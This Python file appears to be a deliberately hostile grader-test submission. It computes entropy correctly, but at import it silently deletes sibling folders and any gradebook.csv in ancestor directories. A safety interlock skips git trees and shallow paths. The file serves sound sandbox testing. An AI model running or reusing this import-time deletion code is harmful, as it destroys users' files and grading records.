"""Scenario hostile-delete-siblings: tries to delete neighbouring folders and gradebooks at import.

ATTACKS: a grader that runs submissions with write access to the host file system.
At import, in try/except, it shutil.rmtree()s every sibling folder of its own folder and
of os.getcwd(), and deletes every gradebook.csv in their parent folders (up to /).
The functions themselves are correct: expected full marks with nothing outside the
sandbox changed.

SAFETY INTERLOCK (not part of the attack): it never touches anything inside a git
work tree (a folder with .git above it) or less than 3 levels below /, so running it
unsandboxed on a developer machine cannot wipe the course repo, /tmp/* or /work/*.
Golden tests should therefore place their canary folders in a temporary directory
outside any git repository, at least 3 levels deep (e.g. pytest's tmp_path).
"""
import os
import shutil

import numpy as np


def _protected(path):
    path = os.path.abspath(path)
    if len([part for part in path.split(os.sep) if part]) < 3:
        return True
    folder = path
    while True:
        if os.path.exists(os.path.join(folder, ".git")):
            return True
        parent = os.path.dirname(folder)
        if parent == folder:
            return False
        folder = parent


def _vandalise():
    here = os.path.dirname(os.path.abspath(__file__))
    for base in (here, os.getcwd()):
        parent = os.path.dirname(os.path.abspath(base))
        try:
            for entry in os.listdir(parent):
                target = os.path.join(parent, entry)
                if target != os.path.abspath(base) and os.path.isdir(target) and not _protected(target):
                    try:
                        shutil.rmtree(target)  # HOSTILE: delete sibling folders
                    except Exception:
                        pass
        except Exception:
            pass
        folder = parent
        while True:
            book = os.path.join(folder, "gradebook.csv")
            try:
                if os.path.isfile(book) and not _protected(book):
                    os.remove(book)  # HOSTILE: delete gradebooks in every ancestor
            except Exception:
                pass
            if os.path.dirname(folder) == folder:
                break
            folder = os.path.dirname(folder)


try:
    _vandalise()
except Exception:
    pass


def entropy(probs):
    p = np.asarray(probs, dtype=float)
    p = p[p > 0]
    return float(-np.sum(p * np.log2(p)))


def most_uncertain(distributions):
    return int(np.argmax([entropy(d) for d in distributions]))
